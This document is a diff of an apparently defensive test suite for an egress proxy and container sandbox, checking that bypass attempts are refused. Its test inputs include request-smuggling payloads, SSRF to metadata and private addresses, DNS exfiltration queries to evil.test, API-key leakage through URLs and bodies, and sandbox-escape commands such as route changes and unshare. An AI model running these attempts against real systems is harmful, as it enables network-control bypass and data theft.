@@ -2,7 +2,7 @@ import { execFileSync } from 'node:child_process'
 import { lookup } from 'node:dns/promises'
 import { readdirSync, readFileSync, statSync } from 'node:fs'
 import { networkInterfaces } from 'node:os'
-import { clientHello, withExtension } from './hello.mjs'
+import { clientHello, inTwoRecords, withExtension } from './hello.mjs'
 import {
   connect,
   datagram,
@@ -13,6 +13,7 @@ import {
   raw,
   read,
   secure,
+  stream,
   tunnel,
 } from './wire.mjs'
 
@@ -27,6 +28,8 @@ const { internet, internet6, host, hostPort, sibling } = JSON.parse(
 const LEASE = process.env.API_KEY ?? ''
 const REFUSED = /^(400|403|421)\b|^closed/
 const FORBIDDEN = /^403\b/
+const MALFORMED = /^400\b/
+const MISDIRECTED = /^421\b/
 const NOTHING = /^(silent|closed|connected, (silent|closed)|E[A-Z]+)$/
 
 const get = (url, hostLine, more = '') => `GET ${url} HTTP/1.1\r\nHost: ${hostLine}\r\n${more}\r\n`
@@ -36,6 +39,14 @@ const intercepted = (more) => ({
   head: 'GET / HTTP/1.1',
   ...more,
 })
+const odd = (url) => raw(get(url, 'ok.test'), { whole: false })
+const ruled = (path) =>
+  inTunnel({
+    authority: 'rules.test:443',
+    sni: 'rules.test',
+    head: `GET ${path} HTTP/1.1`,
+    lines: ['Host: rules.test'],
+  })
 const shell = (command) => {
   try {
     return (
@@ -49,13 +60,23 @@ const shell = (command) => {
     return `failed: ${(error.stderr || error.stdout || error.code || '').toString().trim().split('\n').at(-1)}`
   }
 }
+/** What an ordinary user may send without any right, in Python: an echo request. It fails when nobody answers. */
+const echo = (family, protocol, address) =>
+  [
+    'import socket',
+    `to = socket.getaddrinfo('${address}', 0, socket.AF_${family})[0][4]`,
+    `s = socket.socket(socket.AF_${family}, socket.SOCK_DGRAM, socket.IPPROTO_${protocol})`,
+    's.settimeout(2)',
+    `s.sendto(bytes([${protocol === 'ICMP' ? 8 : 128}]) + bytes(15), to)`,
+    "print('ANSWERED', s.recvfrom(99)[1])",
+  ].join('; ')
 const each = (list, expected, action) =>
   list.map((item) => [String(item), expected, () => action(item)])
 
 /** Sends a ClientHello in five segments; gives what came back, but for an alert. */
-async function inPieces(servername) {
+async function inPieces(servername, pack = (hello) => hello) {
   const socket = await tunnel('ok.test:443')
-  const hello = await clientHello(servername)
+  const hello = pack(await clientHello(servername))
   const answer = read(socket, (text) => text.length > 7)
   for (let i = 0; i < 5; i += 1) {
     const [from, to] = [i, i + 1].map((fifth) => Math.floor((fifth * hello.length) / 5))
@@ -111,6 +132,8 @@ export const cases = [
       ['in five pieces, allowed', /^SERVER HELLO$/, () => inPieces('ok.test')],
       // An alert says no.
       ['in five pieces, SNI evil.test', NOTHING, () => inPieces('evil.test')],
+      ['in two records, allowed', /^SERVER HELLO$/, () => inPieces('ok.test', inTwoRecords)],
+      ['in two records, SNI evil.test', NOTHING, () => inPieces('evil.test', inTwoRecords)],
     ],
   ],
   [
@@ -123,14 +146,19 @@ export const cases = [
         /^400\b/,
         () => inTunnel(intercepted({ lines: ['Host: secret.test', 'Host: evil.test'] })),
       ],
-      ['no Host', /^4(00|21)\b/, () => inTunnel(intercepted({}))],
+      ['no Host', MALFORMED, () => inTunnel(intercepted({}))],
       [
         'h2 :authority',
-        /^(421|403)\b|^closed/,
+        /^421$/,
         () =>
           shell(
             `curl -sk --http2 --max-time 5 -o /dev/null -w '%{http_code}' https://secret.test/ -H 'Host: evil.test'`,
           ),
+      ],
+      [
+        'h2 :authority beside another Host',
+        /^421$/,
+        () => stream('secret.test', { ':authority': 'secret.test', host: 'evil.test' }),
       ],
     ],
   ],
@@ -151,7 +179,7 @@ export const cases = [
       ],
       [
         'plain HTTP',
-        /^(403|421|400)\b/,
+        MISDIRECTED,
         () => raw(get('http://ok.test/', 'secret.test', `X-Api-Key: ${LEASE}\r\n`)),
       ],
     ],
@@ -160,15 +188,11 @@ export const cases = [
     5,
     'absolute URI and Host disagree',
     [
-      ['evil URI', REFUSED, () => raw(get('http://evil.test/', 'ok.test'))],
-      [
-        'evil Host',
-        /^(400|421|403)\b|^200 http:80 ok\.test/,
-        () => raw(get('http://ok.test/case5', 'evil.test')),
-      ],
+      ['evil URI', MISDIRECTED, () => raw(get('http://evil.test/', 'ok.test'))],
+      ['evil Host', MISDIRECTED, () => raw(get('http://ok.test/case5', 'evil.test'))],
       [
         'transparent, evil URI',
-        REFUSED,
+        MISDIRECTED,
         () => raw(get('http://evil.test/', 'ok.test'), { to: { host: PROXY.host, port: 80 } }),
       ],
     ],
@@ -178,11 +202,8 @@ export const cases = [
     'trailing dots',
     [
       ['ok.test.', /^200$/, () => connect('ok.test.:443')],
-      ...each(
-        ['evil.test.:443', 'ok.test..:443', '127.0.0.1..:443', '.ok.test:443'],
-        REFUSED,
-        connect,
-      ),
+      ['evil.test.', FORBIDDEN, () => connect('evil.test.:443')],
+      ...each(['ok.test..:443', '127.0.0.1..:443', '.ok.test:443'], MALFORMED, connect),
     ],
   ],
   [
@@ -202,10 +223,11 @@ export const cases = [
     8,
     'brackets',
     [
-      ...each(['[evil.test]:443', '[ok.test]:443', '[[::1]]:443', '[::1]:443'], REFUSED, connect),
+      ...each(['[evil.test]:443', '[ok.test]:443', '[[::1]]:443'], MALFORMED, connect),
+      ['[::1]', FORBIDDEN, () => connect('[::1]:443')],
       [
         'http://[169.254.169.254]/',
-        REFUSED,
+        MALFORMED,
         () => raw(get('http://[169.254.169.254]/', '[169.254.169.254]')),
       ],
     ],
@@ -222,9 +244,14 @@ export const cases = [
           'evil.test\t.wild.test:443',
           'evil.test .wild.test:443',
         ],
-        REFUSED,
+        MALFORMED,
         connect,
       ),
+      [
+        'by SOCKS',
+        MALFORMED,
+        () => raw('\x05\x01\0\x05\x01\0\x03\x13evil.test\0.wild.test\x01\xbb'),
+      ],
     ],
   ],
   [
@@ -232,7 +259,7 @@ export const cases = [
     'IPv6 zones',
     each(
       ['[::ffff:1.2.3.4%x.wild.test]:443', '[fe80::1%eth0]:443', '[::1%25lo]:80'],
-      REFUSED,
+      MALFORMED,
       connect,
     ),
   ],
@@ -250,7 +277,7 @@ export const cases = [
         '0x7f000001',
         '127.0.0.1.nip.io',
       ].map((name) => `${name}:443`),
-      REFUSED,
+      FORBIDDEN,
       connect,
     ),
   ],
@@ -267,7 +294,7 @@ export const cases = [
         '::ffff:7f00:1',
         '64:ff9b:1::7f00:1',
       ].map((address) => `[${address}]:443`),
-      REFUSED,
+      FORBIDDEN,
       connect,
     ),
   ],
@@ -286,7 +313,7 @@ export const cases = [
         '255.255.255.255',
         '10.0.0.1',
       ].map((address) => `${address}:443`),
-      REFUSED,
+      FORBIDDEN,
       connect,
     ),
   ],
@@ -294,14 +321,7 @@ export const cases = [
     14,
     'an allowed name that leads to a private address',
     [
-      [
-        'CONNECT',
-        /^(403|502)\b/,
-        () =>
-          connect('private.test:80').then((end) =>
-            end === '200' ? raw(get('http://private.test/', 'private.test')) : end,
-          ),
-      ],
+      ['CONNECT', FORBIDDEN, () => connect('private.test:443')],
       ['plain HTTP', /^403\b/, () => raw(get('http://private.test/', 'private.test'))],
       [
         'transparent',
@@ -340,7 +360,7 @@ export const cases = [
           '168.63.129.16:80',
           '169.254.169.254:80',
         ],
-        REFUSED,
+        FORBIDDEN,
         connect,
       ),
       ['its name', /^ENOTFOUND$/, () => lookup('metadata.google.internal')],
@@ -351,7 +371,7 @@ export const cases = [
     'CONNECT to an address',
     [
       ['with the SNI of an allowed host', FORBIDDEN, () => connect(`${internet}:443`)],
-      ['plain HTTP with its Host', REFUSED, () => raw(get(`http://${internet}/`, 'ok.test'))],
+      ['plain HTTP with its Host', MISDIRECTED, () => raw(get(`http://${internet}/`, 'ok.test'))],
     ],
   ],
   [
@@ -374,10 +394,12 @@ export const cases = [
         'ok.test:',
         'ok.test',
         'ok.test:65979',
+        'ok.test:0443',
+        'ok.test:0',
         'ok.test:4 43',
         'ok.test:443:443',
       ],
-      REFUSED,
+      MALFORMED,
       connect,
     ),
   ],
@@ -395,7 +417,7 @@ export const cases = [
         ['chunked twice', 'Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked\r\n'],
       ].map(([name, lines]) => [
         name,
-        /^(400|501)\b/,
+        MALFORMED,
         () =>
           raw(
             `POST http://ok.test/case20 HTTP/1.1\r\nHost: ok.test\r\n${lines}\r\n0\r\n\r\n${get('http://evil.test/smuggled', 'evil.test')}`,
@@ -404,7 +426,7 @@ export const cases = [
       ]),
       [
         'bare line feeds',
-        /^(400|501)\b|^closed/,
+        MALFORMED,
         () =>
           raw(
             'GET http://ok.test/ HTTP/1.1\nHost: ok.test\n\nGET http://evil.test/smuggled HTTP/1.1\nHost: evil.test\n\n',
@@ -413,7 +435,7 @@ export const cases = [
       ],
       [
         'a chunk that lies',
-        /^(400|200|502)\b|^closed/,
+        /^(400\b|closed)/,
         () =>
           raw(
             `POST http://ok.test/upload HTTP/1.1\r\nHost: ok.test\r\nTransfer-Encoding: chunked\r\n\r\n1;\n\r\nx\r\n0\r\n\r\n${get('http://evil.test/smuggled', 'evil.test')}`,
@@ -428,7 +450,7 @@ export const cases = [
     [
       [
         'evil behind ok',
-        /^200\b(?!.*evil)/,
+        /^200 then 403\b/,
         () =>
           raw(
             get('http://ok.test/first', 'ok.test') + get('http://evil.test/pipelined', 'evil.test'),
@@ -443,7 +465,7 @@ export const cases = [
     [
       [
         'second request',
-        /^200 then (403|400|421|closed)/,
+        /^200 then 403$/,
         async () => {
           const socket = await dial(PROXY)
           socket.write(get('http://ok.test/first', 'ok.test'))
@@ -460,24 +482,13 @@ export const cases = [
     23,
     'paths that are not what they seem',
     [
-      [
-        'what is allowed',
-        /^200\b/,
-        () =>
-          inTunnel({
-            authority: 'rules.test:443',
-            sni: 'rules.test',
-            head: 'GET /ok/fine HTTP/1.1',
-            lines: ['Host: rules.test'],
-          }),
-      ],
+      ['what is allowed', /^200\b/, () => ruled('/ok/fine')],
+      ...each(['/admin', '//admin', '/Ok/fine', '/okay'], FORBIDDEN, ruled),
       ...each(
         [
           '/ok/../admin',
           '/ok/%2e%2e/admin',
           '/ok/%2E%2E%2Fadmin',
-          '//admin',
-          '/admin',
           '/ok/..;/admin',
           '/ok\\..\\admin',
           '/ok/%252e%252e/admin',
@@ -486,14 +497,8 @@ export const cases = [
           '/ok/#/../../admin',
           '/%6fk/../admin',
         ],
-        /^(400|403)\b/,
-        (path) =>
-          inTunnel({
-            authority: 'rules.test:443',
-            sni: 'rules.test',
-            head: `GET ${path} HTTP/1.1`,
-            lines: ['Host: rules.test'],
-          }),
+        MALFORMED,
+        ruled,
       ),
       [
         'another method',
@@ -547,7 +552,7 @@ export const cases = [
     [
       [
         'h2c',
-        /^(400|403|501|200)\b/,
+        /^200 http:80 ok\.test GET \/h2c$/,
         () =>
           raw(
             get(
@@ -559,7 +564,7 @@ export const cases = [
       ],
       [
         'foo, then free bytes',
-        /^(400|403|501|200)\b(?!.*evil)/,
+        /^501\b(?!.*evil)/,
         () =>
           raw(
             `${get('http://ok.test/foo', 'ok.test', 'Connection: Upgrade\r\nUpgrade: foo\r\n')}${get('http://evil.test/upgraded', 'evil.test')}`,
@@ -568,7 +573,7 @@ export const cases = [
       ],
       [
         'the preface of HTTP/2',
-        REFUSED,
+        MALFORMED,
         () => raw('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n', { whole: false }),
       ],
     ],
@@ -579,7 +584,7 @@ export const cases = [
     [
       [
         'TRACE',
-        /^(400|403|405|501)\b/,
+        /^405\b/,
         () =>
           inTunnel(
             intercepted({
@@ -590,7 +595,7 @@ export const cases = [
       ],
       [
         'Connection: X-Api-Key',
-        /^(200|400|403)\b/,
+        /^200\b/,
         () =>
           inTunnel(
             intercepted({
@@ -599,8 +604,20 @@ export const cases = [
           ),
       ],
       [
+        'fields for the proxy and for one hop',
+        /^200 \{(?!.*(proxy|x-drop))/i,
+        () =>
+          raw(
+            get(
+              'http://ok.test/echo',
+              'ok.test',
+              'Proxy-Authorization: Basic eDp5\r\nProxy_Authorization: x\r\nProxy-Connection: close\r\nConnection: X-Drop\r\nX-Drop: 1\r\n',
+            ),
+          ),
+      ],
+      [
         'Max-Forwards: 0',
-        /^(400|403|405|501)\b/,
+        /^405\b/,
         () => raw(`TRACE http://ok.test/ HTTP/1.1\r\nHost: ok.test\r\nMax-Forwards: 0\r\n\r\n`),
       ],
     ],
@@ -611,7 +628,7 @@ export const cases = [
     [
       ...each(
         ['A', 'AAAA', 'TXT', 'MX', 'NULL', 'CNAME', 'ANY', 'SRV', 'HTTPS'],
-        /^(NXDOMAIN|REFUSED|NOTIMP)$/,
+        /^NXDOMAIN$/,
         (type) =>
           shell(
             `dig +tries=1 +time=3 ${type} c2VjcmV0.x.evil.test | sed -n 's/.*status: \\([A-Z]*\\).*/\\1/p'`,
@@ -619,7 +636,7 @@ export const cases = [
       ),
       [
         'below an allowed name, of a type that carries text',
-        /^(NXDOMAIN|REFUSED|NOTIMP|NOERROR)$/,
+        /^NOERROR$/,
         () =>
           shell(
             `dig +tries=1 +time=3 TXT c2VjcmV0.wild.test | sed -n 's/.*status: \\([A-Z]*\\).*/\\1/p'`,
@@ -704,12 +721,12 @@ export const cases = [
       ),
       [
         'ping',
-        /^failed|100% packet loss|not permitted|unreachable/i,
-        () => shell(`ping -c1 -W2 ${internet}`),
+        /^failed: (TimeoutError|PermissionError|OSError)/,
+        () => shell(`python3 -c "${echo('INET', 'ICMP', internet)}"`),
       ],
       [
         'a raw socket',
-        /EPERM|not permitted|Operation/i,
+        /^failed: PermissionError/,
         () =>
           shell(
             `python3 -c "import socket; socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)"`,
@@ -717,7 +734,7 @@ export const cases = [
       ],
       [
         'a packet socket',
-        /EPERM|not permitted|Operation/i,
+        /^failed: PermissionError/,
         () => shell(`python3 -c "import socket; socket.socket(socket.AF_PACKET, socket.SOCK_RAW)"`),
       ],
     ],
@@ -736,12 +753,19 @@ export const cases = [
           )
           return links.length === 0
             ? 'none'
-            : shell(`ping -6 -c2 -W2 ff02::1%${links[0]} | grep -c 'bytes from' || echo none`)
+            : shell(`python3 -c "${echo('INET6', 'ICMPV6', `ff02::1%${links[0]}`)}" || echo none`)
         },
       ],
     ],
   ],
-  [33, 'the host', each(host ?? [], NOTHING, (address) => direct(address, hostPort, ''))],
+  [
+    33,
+    'the host',
+    [
+      ...each(host ?? [], NOTHING, (address) => direct(address, hostPort, '')),
+      ['by its name', /^ENOTFOUND$/, () => lookup('host.docker.internal')],
+    ],
+  ],
   [
     34,
     'the control ports',
@@ -757,7 +781,7 @@ export const cases = [
           `${PROXY.host}:53`,
           `${host?.[0]}:2375`,
         ],
-        REFUSED,
+        FORBIDDEN,
         connect,
       ),
       ['the broker, without the proxy', NOTHING, () => direct('governance-broker', 8700)],
@@ -766,10 +790,10 @@ export const cases = [
   ],
   [
     35,
-    'the socket of the engine',
+    'what a Compose file asks for',
     [
       [
-        'in the container',
+        'the socket of the engine',
         /^none$/,
         () =>
           [
@@ -788,18 +812,26 @@ export const cases = [
             .join() || 'none',
       ],
       ['DOCKER_HOST', /^none$/, () => process.env.DOCKER_HOST ?? 'none'],
+      // Its Compose file asks for these three.
+      ['a network that leads out', NOTHING, () => direct(internet, 80)],
+      ['a name server there', /^ENOTFOUND$/, () => lookup('asked.evil.test')],
+      ['a name there', /^ENOTFOUND$/, () => lookup('evil.test')],
     ],
   ],
   [
     36,
     'undoing it with capabilities',
     [
-      ['a route', /failed/, () => shell(`ip route add default via ${PROXY.host}`)],
-      ['an address', /failed/, () => shell('ip address add 198.51.100.200/24 dev eth0')],
-      ['a new network namespace', /failed/, () => shell('unshare -n true')],
+      [
+        'a route',
+        /not permitted/,
+        () => shell(`ip route replace default via $(getent hosts ${PROXY.host} | cut -d' ' -f1)`),
+      ],
+      ['an address', /not permitted/, () => shell('ip address add 198.51.100.200/24 dev eth0')],
+      ['a new network namespace', /not permitted/, () => shell('unshare -n true')],
       [
         'a user namespace with one',
-        /failed|^nothing$/,
+        /^failed/,
         () => shell('unshare -rn true && ip route add default via 198.18.0.1'),
       ],
       [
@@ -860,7 +892,7 @@ export const cases = [
     [
       ['by name', NOTHING, () => direct('relay', 3128)],
       ['by address', NOTHING, () => direct(sibling, 3128)],
-      ['through the proxy', REFUSED, () => connect('relay:3128')],
+      ['through the proxy', FORBIDDEN, () => connect('relay:3128')],
     ],
   ],
   [
@@ -901,24 +933,23 @@ export const cases = [
         'http:evil.test/',
         '//evil.test/',
         'ftp://evil.test/',
-        'http://evil.test?@ok.test/',
-        'HTTP://evil.test/',
       ],
-      REFUSED,
-      (url) => raw(get(url, 'ok.test'), { whole: false }),
-    ),
+      MALFORMED,
+      odd,
+    ).concat(each(['http://evil.test?@ok.test/', 'HTTP://evil.test/'], MISDIRECTED, odd)),
   ],
   [
     41,
     'names in other scripts',
     [
       ...each(
-        ['ｏｋ.test', '%6fk.test', 'o\u00adk.test', 'ok。test', 'xn--evil-.test', 'оk.test'].map(
+        ['ｏｋ.test', '%6fk.test', 'o\u00adk.test', 'ok。test', 'оk.test'].map(
           (name) => `${name}:443`,
         ),
-        REFUSED,
+        MALFORMED,
         (name) => connect(Buffer.from(name).toString('latin1')),
       ),
+      ['xn--evil-', FORBIDDEN, () => connect('xn--evil-.test:443')],
     ],
   ],
   [
@@ -968,7 +999,7 @@ export const cases = [
     [
       [
         'a head of a mebibyte',
-        /^(431|400)\b|^closed|^E/,
+        /^431\b/,
         () =>
           raw(get('http://ok.test/', 'ok.test', `X-Big: ${'x'.repeat(1 << 20)}\r\n`), {
             whole: false,
@@ -993,23 +1024,23 @@ export const cases = [
     [
       [
         'HTTP/0.9',
-        /^400\b|^closed|^silent/,
+        /^(400\b|closed|silent)/,
         () => raw('GET http://evil.test/\r\n', { whole: false }),
       ],
       [
         'HTTP/1.0 without Host',
-        /^(200|400)\b/,
+        /^200 http:80 ok\.test/,
         () => raw('GET http://ok.test/old HTTP/1.0\r\n\r\n', { whole: false }),
       ],
       [
         'HTTP/1.0 to evil',
-        REFUSED,
+        FORBIDDEN,
         () => raw('GET http://evil.test/ HTTP/1.0\r\n\r\n', { whole: false }),
       ],
-      ['OPTIONS *', REFUSED, () => raw('OPTIONS * HTTP/1.1\r\nHost: evil.test\r\n\r\n')],
+      ['OPTIONS *', MALFORMED, () => raw('OPTIONS * HTTP/1.1\r\nHost: evil.test\r\n\r\n')],
       [
         'a method in lower case',
-        /^(400|403|501)\b/,
+        MALFORMED,
         () => raw('get http://evil.test/ HTTP/1.1\r\nHost: evil.test\r\n\r\n'),
       ],
     ],
@@ -1036,7 +1067,7 @@ export const cases = [
       ],
       [
         'Host: evil.test there',
-        REFUSED,
+        FORBIDDEN,
         async () =>
           raw(get('/', 'evil.test'), { to: { host: (await lookup('ok.test')).address, port: 80 } }),
       ],
@@ -1063,7 +1094,7 @@ export const cases = [
       ['in the URL', FORBIDDEN, () => raw(get(`http://ok.test/?k=${LEASE}`, 'ok.test'))],
       [
         'in a body',
-        /^403\b|^closed/,
+        FORBIDDEN,
         () =>
           raw(
             `POST http://ok.test/upload HTTP/1.1\r\nHost: ok.test\r\nContent-Length: ${LEASE.length}\r\n\r\n${LEASE}`,
